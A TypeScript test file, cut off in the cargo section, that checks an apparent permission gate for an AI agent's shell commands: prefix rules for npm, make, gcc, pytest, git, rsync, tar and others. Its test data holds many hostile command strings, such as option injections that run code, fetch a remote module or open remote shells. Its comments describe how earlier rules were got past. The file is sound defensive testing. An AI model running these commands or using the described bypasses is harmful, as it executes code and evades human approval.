import { describe, expect, it } from 'vitest';
import { tempFolder } from '../tools/test-support';
import { evaluateRules } from './evaluate-rules';
import { proposeRule } from './propose-rule';
import { WORKSPACE, context, prefix, terminal } from './rule-fixtures';
import type { Rule } from '@airlock/api';

async function decide(command: string, rules: readonly Rule[]): Promise<string> {
  return (await evaluateRules(terminal(command), rules, context)).decision;
}

/** The decision in a workspace that exists, `workspace`. */
async function decideIn(workspace: string, command: string, rules: readonly Rule[]): Promise<string> {
  return (await evaluateRules(terminal(command), rules, { ...context, workspace })).decision;
}

/** Commands a prefix rule must still allow, so that rules stay worth having. */
const stillAllowed: [string, string][] = [
  ['npm test', 'npm test'],
  ['npm test', 'npm test --silent'],
  ['npm test', 'npm test -s'],
  ['cargo test', 'cargo test $HOME "${HOME}/x" $LANG ~/y'],
  ['cargo test', 'echo hi; cargo test "$HOME"'],
  // `shift` changes only `$1`, `$@` …, which never count as the environment's.
  ['cargo test', 'shift; cargo test "$HOME"'],
  ['npm run build', 'npm run build --if-present'],
  ['pnpm test', 'pnpm test --silent'],
  ['git status', 'git status'],
  ['git status', 'git status -s --no-optional-locks'],
  ['git log', 'git log --oneline -5 -- src'],
  ['make test', 'make test'],
  ['make test', 'make test -j4 -k --no-print-directory'],
  ['tar', 'tar -xf a.tar -- file'],
  ['zip', 'zip -r out.zip src'],
  ['pytest', 'pytest -x -q tests'],
  ['gcc', 'gcc -O2 -Wall -o x x.c'],
  ['sort', 'sort -u names.txt'],
];

describe('a prefix rule still allows', () => {
  it.each(stillAllowed)('for %s: %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule), prefix('echo'), prefix('shift')])).toBe('allow');
  });
});

/**
 * Variables bash sets itself, from the line's own text or as it runs: `$_` is the last word of the command before,
 * `$BASH_COMMAND` the command being run. None is the person's environment.
 */
const SHELL_SET = [
  '_', 'BASH_COMMAND', 'BASH_ARGV', 'BASH_ARGC', 'BASH_LINENO', 'BASH_SOURCE', 'FUNCNAME', 'LINENO', 'RANDOM', 'SRANDOM',
  'SECONDS', 'EPOCHREALTIME', 'EPOCHSECONDS', 'BASHPID', 'PPID', 'OLDPWD', 'PWD', 'REPLY', 'OPTARG', 'OPTIND', 'PIPESTATUS',
  'HISTCMD', 'COMP_LINE', 'READLINE_LINE', 'BASH_REMATCH', 'DIRSTACK', 'MAPFILE', 'IFS', 'Z',
];
const SPECIAL = ['1', '9', '@', '*', '#', '?', '$', '!', '-', '0'];

describe('a variable the shell sets is not taken for the environment', () => {
  it.each([
    // The probe's lines: the first command leaves its last word in `$_`, which the second hands to npm.
    `npm test -- "--node-options=--import=data:text/javascript,import('fs').then(f=>f.writeFileSync('PWNED','ran:'+process.pid))" >/dev/null 2>&1; npm test $_`,
    'npm test -- x; npm test $_',
    "npm test $BASH_COMMAND '--' --script-shell=./evil.sh",
    "npm test $BASH_COMMAND '--' --node-options=x",
    'npm test -- --node-options=x; npm test ${_}',
    'npm test -- --node-options=x; npm test "$_"',
    'npm test -- --node-options=x; npm test x$_',
  ])('a rule for npm test asks about %j', async (command) => {
    expect(await decide(command, [prefix('npm test')])).toBe('ask');
  });

  it.each([
    ['git log', 'git log -- --output=PWNED >/dev/null; git log $_'],
    ['git diff', 'git diff -- --output=PWNED >/dev/null; git diff $_'],
    ['git log', "git log $BASH_COMMAND '--' --output=PWNED"],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([...SHELL_SET.flatMap((name) => [`$${name}`, `\${${name}}`, `"$${name}"`]), ...SPECIAL.map((name) => `$${name}`)])(
    'a rule for npm test asks about npm test %s',
    async (word) => {
      expect(await decide(`npm test ${word}`, [prefix('npm test')])).toBe('ask');
    },
  );

  it.each([
    ['read HOME', 'read HOME; npm test $HOME'],
    ['printf -v HOME -- --node-options=x', 'printf -v HOME -- --node-options=x; npm test $HOME'],
    ['getopts x: LANG', 'getopts x: LANG; npm test "$LANG"'],
  ])('after %j, which an exact rule allows, the same line asks about %j', async (exact, command) => {
    expect(await decide(command, [prefix(exact, { exact: true }), prefix('npm test')])).toBe('ask');
  });
});

describe('npm, pnpm and yarn take only a few harmless options before `--`', () => {
  it.each([
    // The probe's lines: npm reads `-name` as `--name`, and any start of an option's name as the option.
    `npm test "-node-options=--import=data:text/javascript,import('fs').then(f=>f.writeFileSync('PWNED-B','ran:'+process.pid))"`,
    'npm test "-node-options=--experimental-network-imports --import=http://127.0.0.1:7811/x.mjs"',
    'npm test -prefix=/tmp',
    'npm test -node-opt=--inspect',
    'npm test --no-no-node-options=--inspect',
    'npm test --NODE-OPTIONS=x',
    'npm test -C /tmp',
    'npm test -s -C /tmp',
    'npm test --watch',
    'npm test -- x; npm test "-$HOME"',
    'pnpm test -node-options=x',
    'yarn test -node-options=x',
  ])('asks about %j', async (command) => {
    expect(await decide(command, [prefix('npm test'), prefix('pnpm test'), prefix('yarn test')])).toBe('ask');
  });
});

describe('make reads a word with "=" as a definition, also after `--`', () => {
  it.each([
    'make test -- SHELL=/usr/bin/touch .SHELLFLAGS=PWNED-MAKE-2',
    'make test SHELL=/usr/bin/touch .SHELLFLAGS=PWNED-MAKE-1',
    `make test -- 'SHELL=/usr/bin/python3' '.SHELLFLAGS=-c__import__("os").system("touch\\x20PWNED-MAKE")'`,
    "make test 'X!=touch PWNED'",
    "make test -- 'src/x!=touch PWNED'",
    'make test -- src/*',
    'make test $HOME',
    "make test -o -- --eval='$(shell touch PWNED)'",
  ])('a rule for make test asks about %j', async (command) => {
    expect(await decide(command, [prefix('make test')])).toBe('ask');
  });
});

describe('a rule for make covers only the targets it names', () => {
  it.each([
    ['make test', 'make test deploy'],
    ['make test', 'make test -j4 -- deploy'],
    ['make test', 'make test -- -deploy'],
    ['make test', 'make test -j 4'],
    ['make', 'make deploy'],
    ['uv run make test', 'uv run make test deploy'],
    ['pnpm make test', 'pnpm make test deploy'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['make', 'make -j4'],
    ['make test', 'make test -j4 -s'],
    ['make test deploy', 'make test deploy'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('make: GNU make 4.4 reads `--temp-stdin=FILE` as a makefile, and deletes it', () => {
  it.each([
    'make test --temp-stdin=.git/COMMIT_EDITMSG',
    'make test --temp-stdin=src/main.c',
    'make test --temp-stdin src/main.c',
    'make test --te=x',
    'make test --tem=x',
    'make test --temp-std=x',
    'make test --temp-stdi=x',
    'make test -k --temp-stdin=x',
  ])('a rule for `make test` asks about %j', async (command) => {
    expect(await decide(command, [prefix('make test')])).toBe('ask');
  });

  it('a rule for `make test` still allows its options', async () => {
    expect(await decide('make test -j4 -k --no-print-directory', [prefix('make test')])).toBe('allow');
  });
});

describe('make: `-t` writes files, `-W` names one, `--jobserver-auth` opens one', () => {
  it.each([
    'make test --jobserver-auth=fifo:/tmp/x',
    'make test --jobserver-auth=fifo:README.md',
    'make test --jobserver-auth=3,4',
    'make test --jobserver-fds=3,4',
    'make test --jobs=2 --jobserver-a=fifo:/tmp/x',
    'make test --jobse=fifo:/tmp/x',
    'make test -t',
    'make test -kt',
    'make test --touch',
    'make test --tou',
    'make test -Wsrc/main.c',
    'make test -W src/main.c',
    'make test --what-if=src/main.c',
    'make test --new-file=src/main.c',
    'make test --assume-new=src/main.c',
  ])('a rule for `make test` asks about %j', async (command) => {
    expect(await decide(command, [prefix('make test')])).toBe('ask');
  });

  it.each(['make test -j4 -k -s', 'make test --jobs=4 --keep-going --silent', 'make test -B -n'])('a rule for `make test` allows %j', async (command) => {
    expect(await decide(command, [prefix('make test')])).toBe('allow');
  });
});

describe('a `--` right after an option may be its value, not the end of the options', () => {
  it.each([
    ['tar', 'tar -xf -- --to-command=sh'],
    ['tar', 'tar xf -- --to-command=sh'],
    ['sort', 'sort -o -- --compress-program=sh names.txt'],
    ['rsync', "rsync -M -- -e'sh -c id' a b:"],
    ['git log', 'git log --grep -- --output=PWNED'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });
});

describe('more spellings of options that run code', () => {
  it.each([
    ['zip', "zip -q out.zip a -T -TT'sh -c id'"],
    ['zip', "zip -q out.zip a -T --unzip-comm='sh -c id'"],
    ['gcc', 'gcc -fuse-ld=/tmp/evil x.c'],
    ['gcc', 'gcc -Wl,-plugin=/tmp/evil.so x.c'],
    ['clang', 'clang --ld-path=/tmp/evil x.c'],
    ['gcc', 'gcc @opts x.c'],
    ['gcc', 'gcc a.c --wrapper x'],
    ['sort', 'sort -o x y'],
    ['sort', 'sort -uo x y'],
    ['sort', 'sort --output=x y'],
    ['sort', 'sort --out=x y'],
    ['go test', 'go test -C /tmp/elsewhere ./...'],
    ['go test', 'go test -vettool=/tmp/evil ./...'],
    ['go test', 'go test -- -toolexec=/tmp/evil ./...'],
    ['pytest', 'pytest --basetemp=/home'],
    ['pytest', 'pytest -p evil_plugin'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });
});

// Found in review: ripgrep 14 runs the program `--hostname-bin` names (to fill in hyperlinks; it ran with none asked
// for), which a rule for `rg` let through where it refused `--pre`; ripgrep takes no start of a long option's name
// (checked with ripgrep 14.1.1: `--hostname` and `--pr` are refused), so only the whole ones matter.
describe('a rule for rg and the programs ripgrep runs', () => {
  it.each([
    ['rg', 'rg --hostname-bin ./x.sh hello a.txt'],
    ['rg', 'rg --hostname-bin=./x.sh hello a.txt'],
    ['rg', 'rg hello a.txt --hostname-bin=x.sh'],
    ['rg -n', 'rg -n --hostname-bin ./x.sh hello'],
    ['rg -n', 'rg -n --pre ./x.sh hello'],
    ['rg --hostname-bin', 'rg --hostname-bin ./x.sh hello'],
  ])('a rule for %s asks about %j (allowed before but --pre)', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each(['rg -n hello a.txt', 'rg --hidden -i hello src', 'rg --hyperlink-format=default hello a.txt', 'rg -z hello logs', "rg '--pre-glob=*.pdf' hello"])(
    'a rule for rg allows %j',
    async (command) => {
      expect(await decide(command, [prefix('rg')])).toBe('allow');
    },
  );
});

// Found in review: `uniq IN OUT`, `xxd IN OUT`, `ptx -G IN OUT` replace OUT, and `tar -tf x.tar --index-file=FILE`
// writes the listing to FILE, `--volno-file=FILE` the volume's number (GNU tar 1.34, any start of either), under rules
// for programs that print: asked about, as `sort -o` is.
describe('a program that prints, told to write a file by an operand or an option', () => {
  it.each([
    ['uniq', 'uniq a.txt notes.md'],
    ['uniq', 'uniq -c a.txt notes.md'],
    ['uniq', 'uniq a.txt -c notes.md'],
    ['uniq', 'uniq -f 1 a.txt notes.md'],
    ['uniq', 'uniq --skip-fields 1 a.txt notes.md'],
    ['uniq', 'uniq --skip-fields=1 a.txt notes.md'],
    ['uniq', 'uniq -cf1 a.txt notes.md'],
    ['uniq', 'uniq -s1f a.txt notes.md'],
    ['ptx', 'ptx -G --width=60 a.txt notes.md'],
    ['uniq', 'uniq -- a.txt -notes.md'],
    ['uniq', 'uniq *.txt'],
    ['uniq a.txt', 'uniq a.txt notes.md'],
    ['xxd', 'xxd a.bin notes.md'],
    ['xxd', 'xxd -c 8 a.bin notes.md'],
    ['xxd -r', 'xxd -r patch.hex app.bin'],
    ['ptx', 'ptx -G a.txt notes.md'],
    ['ptx', 'ptx a.txt notes.md --traditional'],
    ['ptx', 'ptx --tr a.txt notes.md'],
    ['tar -tf', 'tar -tf x.tar --index-file=README.md'],
    ['tar -tf', 'tar -tf x.tar --index-file README.md'],
    ['tar -tf', 'tar -tf x.tar --ind=README.md'],
    ['tar -tf', 'tar -tf x.tar --volno-file=README.md'],
    ['tar -tf', 'tar -tf x.tar --volno=README.md'],
    ['tar', 'tar tf x.tar --index-file=README.md'],
  ])('a rule for %s asks about %j (allowed before)', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['uniq', 'uniq a.txt'],
    ['uniq', 'uniq -c a.txt'],
    ['uniq', 'uniq -f 1 a.txt'],
    ['uniq', 'uniq -f1 a.txt'],
    ['uniq', 'uniq --skip-fields=1 a.txt'],
    ['uniq', 'uniq a.txt -'],
    ['uniq a.txt notes.md', 'uniq a.txt notes.md'],
    ['xxd', 'xxd a.bin'],
    ['xxd', 'xxd -c 8 -l 64 a.bin'],
    ['xxd', 'xxd -s 16 a.bin -'],
    ['ptx', 'ptx a.txt notes.md'],
    ['tar -tf', 'tar -tf x.tar'],
    ['tar -tf', 'tar -tf x.tar -v src/a.txt'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

// Found in review: xxd reads `--X` as `-X`, takes any start of an option's name past its letter for the name
// (`-colsX 8`, `-lenX 64`, `-seek…`) with its value in the next word, and ends its options at the first operand, which
// `xxd a.bin -c` writes; ptx's `--format` takes a value. Each of these replaced notes.md (xxd 2022-01-14, coreutils 9.1).
describe('an output operand behind options whose values are not known', () => {
  it.each([
    ['xxd', 'xxd --len 64 - notes.md'],
    ['xxd', 'xxd --cols 8 - notes.md'],
    ['xxd', 'xxd -colsX 8 - notes.md'],
    ['xxd', 'xxd -lenX 64 - notes.md'],
    ['xxd', 'xxd -skip 0 - notes.md'],
    ['xxd', 'xxd -seekZ 0 - notes.md'],
    ['xxd', 'xxd -groupX 2 - notes.md'],
    ['xxd', 'xxd -offsetQ 0 - notes.md'],
    ['xxd', 'xxd -nameX n - notes.md'],
    ['xxd', 'xxd -r --seek 0 - notes.md'],
    ['xxd', 'xxd -c8 a.bin notes.md'],
    ['xxd', 'xxd a.bin -c'],
    ['xxd', 'xxd - -l'],
    ['xxd', 'xxd --- a.bin notes.md'],
    ['xxd', 'xxd -Q 1 a.bin notes.md'],
    ['ptx', 'ptx -G --format roff - notes.md'],
    ['ptx', 'ptx -G --form roff - notes.md'],
    ['ptx', 'ptx -G --fo roff - notes.md'],
    ['ptx', 'ptx -G --sent x - notes.md'],
    ['ptx', 'ptx -w 60 -G - notes.md'],
    ['uniq', 'uniq --check 3 - notes.md'],
    ['uniq', 'uniq --skip-c 3 - notes.md'],
    ['uniq', 'uniq --all-repeated - notes.md'],
    ['uniq', 'uniq --group - notes.md'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['xxd', 'xxd -l 64 notes.md'],
    ['xxd', 'xxd --len 64 notes.md'],
    ['xxd', 'xxd -lenX 64 notes.md'],
    ['xxd', 'xxd -c8 a.bin'],
    ['xxd', 'xxd -cap a.bin -'],
    ['xxd', 'xxd -ps -r a.hex -'],
    ['xxd', 'xxd -s 16 -l 32 a.bin'],
    ['ptx', 'ptx -G --format roff a.txt'],
    ['ptx', 'ptx -G -w 60 a.txt -'],
    ['ptx', 'ptx -w -G a.txt notes.md'],
    ['uniq', 'uniq --check-chars 3 a.txt'],
    ['uniq', 'uniq --all-repeated=prepend a.txt'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('what a runner runs is judged as the command it is', () => {
  it.each([
    // The probe's lines: "Always allow" on `pnpm exec make test` or `uv run git status` saved a rule for the runner
    // and its program, which was matched with the runner's options or none.
    ['uv run make', 'uv run make test SHELL=/tmp/x'],
    ['uv run make', "uv run make test 'X!=id > PWNED'"],
    ['uv run git', "uv run git -c core.fsmonitor='touch pwned' status"],
    ['uv run python', 'uv run python -c 1'],
    ['uv run', 'uv run ls'],
    ['uv tool run git', 'uv tool run git -c core.pager=sh log'],
    ['pnpm exec make', "pnpm exec make test 'X!=id > PWNED'"],
    ['pnpm exec make', "pnpm exec make test SHELL=/bin/bash \"X!=touch PWNED\""],
    ['pnpm exec git', 'pnpm exec git -- -c core.fsmonitor="touch x; false" status'],
    ['pnpm exec --', 'pnpm exec -- make test'],
    ['pnpm exec -- make', "pnpm exec -- make test 'X!=id'"],
    ['poetry run make', "poetry run make test 'X!=id'"],
    ['pipenv run git', 'pipenv run git -c x=y status'],
    ['bundle exec tar', 'bundle exec tar --to-command=sh -xf a.tar'],
    ['npm exec make', "npm exec make test 'X!=id'"],
    ['yarn dlx make', "yarn dlx make test 'X!=id'"],
    ['yarn node', 'yarn node evil.js'],
    // pnpm runs a word it does not know as a program.
    ['pnpm make', "pnpm make test 'X!=id'"],
    ['pnpm make test', 'pnpm make test SHELL=/tmp/x'],
    ['pnpm bash', 'pnpm bash x.sh'],
    ['uv run pnpm exec make', "uv run pnpm exec make test 'X!=id'"],
    // A rule for the runner or the package manager alone names no program.
    ['uv', 'uv run make test SHELL=/tmp/x'],
    ['pnpm', "pnpm make test 'X!=id'"],
    ['pnpm', 'pnpm bash x.sh'],
    ['pnpm', 'pnpm $HOME'],
    ['npm', "npm exec make test 'X!=id'"],
    ['yarn', 'yarn node evil.js'],
    // With an option first, which word is the program depends on which options take a value.
    ['pnpm --filter web', "pnpm --filter web make test 'X!=id'"],
    ['pnpm --filter test', "pnpm --filter test make 'X!=id'"],
    ['pnpm -r test', 'pnpm -r test src'],
    // A runner's option before its subcommand hid it: a rule for the tool alone let the program run.
    ['uv', 'uv --quiet run rm -rf build'],
    ['uv', 'uv -q tool run cowsay'],
    ['uv', 'uv tool --quiet run cowsay'],
    ['npm', 'npm --silent exec rm x'],
    ['poetry', 'poetry -q run rm -rf build'],
    ['bundle', 'bundle --verbose exec rake'],
    ['uv', 'echo run rm -rf build; uv $_'],
    // Options of the runner that install packages, move to another folder or load variables change what runs.
    ['uv run make test', 'uv run --with evil make test'],
    ['uv run make test', 'uv run --directory /tmp make test'],
    ['uv run make test', 'uv run --env-file .env make test'],
    ['uv run make test', 'uv --project /tmp run make test'],
    ['pnpm exec make', 'pnpm exec --filter web make test'],
    ['poetry run make test', 'poetry -C /tmp run make test'],
    ['conda run make test', 'conda run -n other make test'],
    ['uv run make', 'uv --quiet run --frozen make test SHELL=/tmp/x'],
    // `yarn node` runs node: a rule for it is one for node, exact only.
    ['yarn node x.js', 'yarn node x.js more'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule), prefix('echo')])).toBe('ask');
  });

  it.each([
    ['uv run make test', 'uv run make test'],
    ['uv run git status', 'uv run git status -s'],
    ['uv run pytest', 'uv run pytest -q tests/'],
    ['poetry run make test', 'poetry run make test -j4'],
    ['pnpm lint', 'pnpm lint --silent'],
    ['npm run build', 'npm run build --if-present'],
    ['pnpm', 'pnpm test'],
    ['pnpm', 'pnpm install'],
    ['npm', 'npm test'],
    ['pnpm -r test', 'pnpm -r test'],
    // A runner's harmless options are skipped when judging what it runs.
    ['uv run make test', 'uv run --frozen make test'],
    ['uv run make test', 'uv --quiet run --locked -- make test -j4'],
    ['uv tool run git status', 'uv tool run -q git status'],
    ['poetry run make test', 'poetry -q run make test'],
    ['uv', 'uv --quiet pip list'],
  ])('a rule for %s still allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule), prefix('echo')])).toBe('allow');
  });

  it.each([
    // npm takes a package's bin of that name first (and a .npmrc may move it to another folder), pnpm and Yarn a script
    // of that name, and pnpm may install first, running the project's lifecycle scripts: a program this machine has,
    // through them, is asked about.
    ['pnpm exec git status', 'pnpm exec git status'],
    ['pnpm make test', 'pnpm make test'],
    ['pnpm exec make test', 'pnpm exec --silent make test'],
    ['pnpm make test', 'pnpm -s make test'],
    ['yarn git status', 'yarn git status'],
    ['npm exec make test', 'npm --silent exec make test'],
  ])('a rule for %s asks about %j: the project may run its own program of that name', async (rule, command) => {
    expect(await decide(command, [prefix(rule), prefix('echo')])).toBe('ask');
  });

  it("a rule for npm exec git status asks, wherever the project's own git may be; npm exec vitest, a program of the project, is covered", async () => {
    await using workspace = await tempFolder();
    const rules = [prefix('npm exec git status'), prefix('npm exec vitest'), prefix('cd')];
    const decideHere = (command: string) => decideIn(workspace.path, command, rules);
    // No node_modules/.bin/git now; a package.json "bin", a .npmrc naming another folder or a later install may
    // make one the program npm runs: none of that is looked up.
    for (const command of ['npm exec git status', 'npx git status']) expect(await decideHere(command), command).toBe('ask');
    expect(await decideHere('npm exec vitest run')).toBe('allow');
  });
});

describe('the C compilers: options that run or load other programs, in every spelling', () => {
  it.each([
    // The probe's lines: `--prefix` is `-B`, `--for-linker` is `-Xlinker`, `-Wp,` hands options to the preprocessor.
    'gcc --prefix=evil/ -c a.c -o a.o',
    'gcc --pre=evil/ -c a.c',
    'cc --prefix evil/ a.c',
    'clang --prefix=evil/ a.c',
    'gcc -Wp,-fplugin=/tmp/p.so -c a.c',
    'gcc -Xpreprocessor -fplugin=/tmp/p.so -c a.c',
    'gcc -Xassembler x a.c',
    'gcc --for-linker=-plugin=/tmp/p.so a.c',
    'gcc --for-linker -plugin=/tmp/p.so a.c',
    'gcc --for-l -plugin=/tmp/p.so a.c',
    'gcc --for-assembler x a.c',
    'gcc -Wa,-foo a.c',
    'gcc -B evil/ a.c',
    'gcc -Bevil/ a.c',
    'gcc -specs=x.specs a.c',
    'gcc --specs=x.specs a.c',
    'gcc --spec=x.specs a.c',
    'gcc -fplugin=./x.so a.c',
    'gcc -fcompare-debug=-fplugin=./x.so a.c',
    'gcc -wrapper sh,-c,id a.c',
    'clang a.c --config=x.cfg',
    'clang a.c --config x.cfg',
    'clang a.c --config-user-dir=evil',
    'clang a.c --gcc-toolchain=evil',
    'clang a.c -mllvm -load=x.so',
    'clang a.c -load x.so',
    'clang -cc1 -load x.so a.c',
    'clang -ccc-install-dir evil a.c',
    'clang a.c -fplugin-arg-x',
  ])('asks about %j', async (command) => {
    expect(await decide(command, [prefix('gcc'), prefix('cc'), prefix('clang')])).toBe('ask');
  });

  it.each(['gcc -O2 -c a.c', 'gcc -O2 -Wall -Wextra -DBAR=1 -Iinclude -o x x.c', 'gcc -x c - -o x', 'clang -std=c11 -c a.c', 'gcc --version'])(
    'still allows %j',
    async (command) => {
      expect(await decide(command, [prefix('gcc'), prefix('clang')])).toBe('allow');
    },
  );
});

describe('pytest: the debugger, imported modules and any start of those options', () => {
  it.each([
    // The probe's line: `--trace` hands piped input to pdb, which runs `!…`.
    `printf '%s\\n' '!__import__("os").system("id")' c | pytest --trace -q`,
    `printf '%s\\n' '!__import__("os").system("id > PWNED-PYTEST")' c | pytest --trace -q -p no:cacheprovider`,
    "echo 'import os' | pytest --trace",
    "printf '!x\\nc\\n' | pytest --pdb -x",
    "printf 'x' | pytest --trace -s",
    'pytest --trac',
    'pytest --tr',
    'pytest --pdb',
    'pytest --pd',
    'pytest --pdbcls=x:Y',
    'pytest --pyargs antigravity',
    'pytest --pyar antigravity',
    'pytest -W ignore::antigravity.X',
    'pytest -Werror::antigravity.X',
    'pytest --pythonwarnings=error::x.Y',
    'pytest --pythonw=error::x.Y',
    'pytest --pastebin=all',
    'pytest --paste=all',
    // pytest 8.2 reads arguments from a file after `@`: one the model wrote may say `--pastebin=all` or `-p evil`.
    'pytest @args.txt',
    'pytest -q @args.txt tests',
    'pytest -- @args.txt',
  ])('asks about %j', async (command) => {
    expect(await decide(command, [prefix('pytest'), prefix('printf'), prefix('echo')])).toBe('ask');
  });

  it.each(['pytest -q tests/', 'pytest -x -q tests', 'pytest --trace-config', 'pytest -k "not slow" tests'])('still allows %j', async (command) => {
    expect(await decide(command, [prefix('pytest')])).toBe('allow');
  });
});

describe('git: options that open files in a program or run one', () => {
  it.each([
    ['git grep', "git grep --no-index --open-files-in-pager='id > PWNED-GITGREP;' foo"],
    ['git grep', "git grep -O'sh -c id' foo"],
    ['git grep', 'git grep -Osh foo'],
    ['git grep', 'git grep -O sh foo'],
    ['git grep', 'git grep --open-files-in-pager=sh foo'],
    ['git grep', 'git grep --open=sh foo'],
    ['git difftool', "git difftool --extcmd='sh -c id' HEAD"],
    ['git difftool', "git difftool -x 'sh -c id' HEAD"],
    ['git rebase', "git rebase -x 'id' main"],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([['git grep', 'git grep foo'], ['git grep', 'git grep -n -i foo -- src'], ['git status', 'git status'], ['git log', 'git log --oneline -5']])(
    'a rule for %s still allows %j',
    async (rule, command) => {
      expect(await decide(command, [prefix(rule)])).toBe('allow');
    },
  );
});

describe('rsync: no other machine, no remote shell, no daemon', () => {
  it.each([
    // rsync hands the path after `host:` to the remote shell, and a host that starts with a dash to ssh as an option.
    "rsync 'x:;id' .",
    "rsync -av src/ 'localhost:;touch PWNED'",
    'rsync -av src/ deploy@host.example:/srv/',
    'rsync -av rsync://host.example/module/ .',
    'rsync host.example::module .',
    "rsync -- '-oProxyCommand=id:x' .",
    'rsync -av --files-from=host.example:list . dst/',
    // A glob with no slash before it may match a file named `x:;id`; a variable may hold a colon.
    'rsync -a * dst/',
    'rsync -a "$HOME" dst/',
    "rsync -e 'sh -c id' x:y .",
    'rsync --rsh=sh x:y .',
    "rsync --rsync-path='id;rsync' x:y .",
    'rsync -aM--log-file=x src/ dst/',
    'rsync --daemon --config=evil.conf',
  ])('a rule for rsync asks about %j', async (command) => {
    expect(await decide(command, [prefix('rsync')])).toBe('ask');
  });

  it.each([
    ['rsync', 'rsync -av src/ dst/'],
    ['rsync', 'rsync -a --delete ./src/ ./build/'],
    ['rsync', 'rsync -a src/* build/'],
    ['rsync -a build/ deploy@host.example:/srv/', 'rsync -a build/ deploy@host.example:/srv/ --dry-run'],
  ])('a rule for %s still allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('tar and cpio: no archive on another machine, reached by a remote shell (found in review)', () => {
  it.each([
    // GNU tar ran `/usr/bin/rsh localhost /usr/sbin/rmt` for `tar -cf localhost:x src` under a rule for `tar`.
    ['tar', 'tar -cf localhost:x src'],
    ['tar', "tar -cf 'user@localhost:x' src"],
    ['tar', 'tar cf localhost:x src'],
    ['tar', 'tar -cflocalhost:x src'],
    ['tar', 'tar --file=localhost:x -c src'],
    ['tar', 'tar -xf host.example:/srv/x.tar'],
    ['tar -x', 'tar -x -f host.example:x.tar'],
    // A glob where the archive's name stands may match a file named `h:x`.
    ['tar', 'tar -cf * src'],
    ['tar', 'tar -c --file * src'],
    ['cpio', 'cpio -o -F localhost:x'],
    ['cpio', 'cpio -i -I host.example:x.cpio'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['tar', 'tar -cf x.tar src'],
    ['tar', 'tar -xzf x.tgz -C out'],
    ['tar', 'tar czf x.tgz -C src .'],
    // `cpio -o` reads the names to pack from its input, which no rule shows: asked about (file-readers.test.ts).
    ['cpio', 'cpio -t -F x.cpio'],
  ])('a rule for %s still allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('npm, pnpm and yarn scripts: after `--`, no word that starts with a dash', () => {
  it.each([
    // The probe's line: node's test runner read `--import=data:…` and ran it.
    `npm test -- '--import=data:text/javascript,import {execSync} from "child_process"; execSync("id > PWNED-NPM")'`,
    'npm test -- --import=data:text/javascript,x',
    'npm test -- --watch=false',
    'npm test -s -- -r ./evil.js',
    'npm run build -- --config=evil.js',
    'pnpm test -- --globalSetup=evil.ts',
    'yarn test -- --config evil.js',
    'npm test -- src/a.test.ts "$Z"',
    'npm test -- $HOME--import=x',
  ])('asks about %j', async (command) => {
    expect(await decide(command, [prefix('npm test'), prefix('npm run build'), prefix('pnpm test'), prefix('yarn test')])).toBe('ask');
  });

  it.each(['npm test', 'npm test --silent', 'pnpm test -s', 'yarn test --silent'])('still allows %j', async (command) => {
    expect(await decide(command, [prefix('npm test'), prefix('pnpm test'), prefix('yarn test')])).toBe('allow');
  });
});

describe('a rule for a script covers no word handed to the script', () => {
  it.each([
    // The probe's line: `node --test` runs the file it is named, here one a call could write.
    ['npm test', 'npm test .git/COMMIT_EDITMSG'],
    ['npm test', 'npm test -- src/a.test.ts'],
    ['npm test', 'npm test --silent -- src/a.test.ts "a pattern"'],
    ['npm test', 'npm test src/*.ts'],
    ['npm test', 'npm test "$HOME"'],
    ['npm test', 'npm test --'],
    ['npm t', 'npm t x.js'],
    ['npm', 'npm test x.js'],
    ['npm', 'npm --silent test x.js'],
    ['npm run test', 'npm run test .git/COMMIT_EDITMSG'],
    ['npm run build', 'npm run build x'],
    ['npm run', 'npm run test x.js'],
    ['npm run', 'npm run --silent test x.js'],
    ['pnpm test', 'pnpm test .git/COMMIT_EDITMSG'],
    ['pnpm run test', 'pnpm run test x.js'],
    ['yarn test', 'yarn test .git/COMMIT_EDITMSG'],
    ['yarn run test', 'yarn run test x.js'],
    // pnpm and Yarn run a word that is none of their own commands as a script, or as a binary of the project's.
    ['pnpm lint', 'pnpm lint src'],
    ['pnpm vitest', 'pnpm vitest .git/COMMIT_EDITMSG'],
    ['yarn jest', 'yarn jest x.js'],
  ])('a rule for %s asks about %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('ask');
  });

  it.each([
    ['npm test', 'npm test --silent'],
    ['npm test -- src/a.test.ts', 'npm test -- src/a.test.ts'],
    ['npm run build', 'npm run build --if-present'],
    ['npm', 'npm test'],
    ['npm view', 'npm view react version'],
    ['pnpm lint', 'pnpm lint -s'],
    ['pnpm lint src', 'pnpm lint src'],
  ])('a rule for %s allows %j', async (rule, command) => {
    expect(await decide(command, [prefix(rule)])).toBe('allow');
  });
});

describe('cargo: no word after `--`, which goes to the compiler, the test binary or rustfmt', () => {
  it.each([
